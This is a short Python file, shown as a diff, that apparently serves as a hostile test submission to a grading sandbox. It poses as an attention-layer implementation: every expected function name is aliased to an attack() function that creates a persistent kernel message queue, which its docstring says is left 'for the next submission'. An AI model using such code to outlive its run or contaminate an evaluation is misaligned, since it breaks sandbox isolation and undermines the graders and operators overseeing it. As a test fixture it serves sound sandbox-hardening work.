@@ -1,0 +1,10 @@
+"""Leaves a message queue in the kernel for the next submission."""
+
+import ctypes
+
+
+def attack(*args, **kwargs):
+    ctypes.CDLL(None).msgget(0x42, 0o1666)
+
+
+softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
